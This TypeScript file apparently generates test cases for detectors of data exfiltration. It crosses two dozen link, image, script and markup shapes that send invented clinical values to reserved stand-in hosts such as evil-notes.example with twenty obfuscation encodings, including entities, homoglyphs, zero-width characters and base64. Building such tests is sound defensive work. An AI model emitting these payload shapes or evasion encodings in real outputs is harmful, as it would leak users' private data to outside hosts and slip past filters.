/**
 * Ways to write data into an address that something may load: every shape in every writing. For tests and benchmarks;
 * the hosts are reserved names (RFC 2606) and the data invented.
 */
export type ExfiltrationVariant = { readonly name: string; readonly text: string };

const HOSTS = ["collect.example", "a1.drop.test", "evil-notes.example"] as const;

type Shape = readonly [name: string, write: (host: string, data: string) => string];

const SHAPES: readonly Shape[] = [
  ["markdown image", (host, data) => `![chart](https://${host}/p.png?d=${data})`],
  ["markdown image by reference", (host, data) => `![chart][c]\n\n[c]: https://${host}/${data}`],
  ["markdown image of any protocol", (host, data) => `![](//${host}/${data})`],
  ["markdown link", (host, data) => `[see the guideline](https://${host}/g?q=${data})`],
  ["markdown link by reference", (host, data) => `[guideline][1]\n\n[1]: http://${host}/${data}`],
  ["autolink", (host, data) => `<https://${host}/${data}>`],
  ["bare address", (host, data) => `More at https://${host}/${data}`],
  ["bare host", (host, data) => `More at ${host}/${data}`],
  ["www", (host, data) => `More at www.${host}/${data}`],
  ["data in the host", (host, data) => `Loaded from ${data}.${host} today`],
  ["user part", (host, data) => `https://portal.clinic.org@${host}/${data}`],
  ["port", (host, data) => `http://${host}:8080/${data}`],
  ["image tag", (host, data) => `<img src="https://${host}/${data}.gif" width="1">`],
  ["image tag left open", (host, data) => `<img src=https://${host}/${data}`],
  ["anchor tag", (host, data) => `<a href='https://${host}/?${data}'>results</a>`],
  ["frame", (host, data) => `<iframe src="//${host}/${data}"></iframe>`],
  ["script", (host, data) => `<script>fetch("https://${host}/"+"${data}")</script>`],
  ["event", (host, data) => `<svg onload="location='https://${host}/${data}'">`],
  ["style", (host, data) => `<div style="background:url(https://${host}/${data})">`],
  ["refresh", (host, data) => `<meta http-equiv="refresh" content="0;url=http://${host}/${data}">`],
  ["form", (host, data) => `<form action="https://${host}"><input value="${data}"></form>`],
  ["javascript", (host, data) => `[open](javascript:location.href='//${host}/${data}')`],
  ["mail", (host, data) => `mailto:drop@${host}?subject=${data}`],
  ["LaTeX", (host, data) => `\\href{https://${host}/${data}}{table}`],
] as const;

type Writing = readonly [name: string, write: (text: string) => string];

const percent = (text: string): string =>
  [...Buffer.from(text)].map((byte) => `%${byte.toString(16).padStart(2, "0")}`).join("");
const each = (text: string, write: (code: number) => string): string =>
  [...text].map((character) => write(character.codePointAt(0) ?? 0)).join("");
const rotate = (text: string): string =>
  text.replace(/[a-z]/gi, (letter) => {
    const base = letter <= "Z" ? 65 : 97;
    return String.fromCharCode(((letter.charCodeAt(0) - base + 13) % 26) + base);
  });
/** Cyrillic letters for the Latin ones that look the same. */
const swap = (text: string): string =>
  text.replace(
    /[aeopcx]/g,
    (letter) => "\u0430\u0435\u043e\u0440\u0441\u0445"["aeopcx".indexOf(letter)] ?? letter,
  );

const WRITINGS: readonly Writing[] = [
  ["plain", (text) => text],
  ["upper case", (text) => text.toUpperCase()],
  ["percent", percent],
  ["percent twice", (text) => percent(percent(text))],
  ["punctuation in percent", (text) => text.replace(/[:/.<>[\]()]/g, percent)],
  ["decimal entities", (text) => each(text, (code) => `&#${code};`)],
  ["hexadecimal entities", (text) => each(text, (code) => `&#x${code.toString(16)};`)],
  [
    "entities for the marks",
    (text) => text.replace(/[<>:/.]/g, (mark) => `&#${mark.charCodeAt(0)};`),
  ],
  [
    "named entities",
    (text) =>
      text.replace(/[<>:/."]/g, (mark) => {
        const names = {
          "<": "lt",
          ">": "gt",
          ":": "colon",
          "/": "sol",
          ".": "period",
          '"': "quot",
        };
        return `&${names[mark as keyof typeof names]};`;
      }),
  ],
  ["zero-width", (text) => [...text].join("\u200b")],
  [
    "full width",
    (text) =>
      each(text, (code) => String.fromCodePoint(code > 32 && code < 127 ? code + 0xfee0 : code)),
  ],
  ["look-alike letters", swap],
  ["defanged", (text) => text.replace(/http/g, "hxxp").replaceAll(".", "[.]")],
  ["dots in words", (text) => text.replaceAll(".", " dot ")],
  ["unicode escapes", (text) => each(text, (code) => `\\u${code.toString(16).padStart(4, "0")}`)],
  ["byte escapes", (text) => each(text, (code) => `\\x${code.toString(16).padStart(2, "0")}`)],
  ["base64", (text) => Buffer.from(text).toString("base64")],
  ["hexadecimal", (text) => Buffer.from(text).toString("hex")],
  ["ROT13", rotate],
  ["reversed", (text) => [...text].reverse().join("")],
];

const DATA = ["ckd-stage-3", "bp_134_82"] as const;

/** 24 shapes x 20 writings x 3 hosts (x 2 data for the first host), each in a sentence of a note. Always the same. */
export function exfiltrationVariants(): readonly ExfiltrationVariant[] {
  return SHAPES.flatMap(([shape, form]) =>
    WRITINGS.flatMap(([writing, write]) =>
      HOSTS.flatMap((host, at) =>
        DATA.slice(0, at === 0 ? 2 : 1).map((data) => ({
          name: `${shape}, ${writing}, ${host}`,
          text: `Blood pressure is stable. ${write(form(host, data))}`,
        })),
      ),
    ),
  );
}
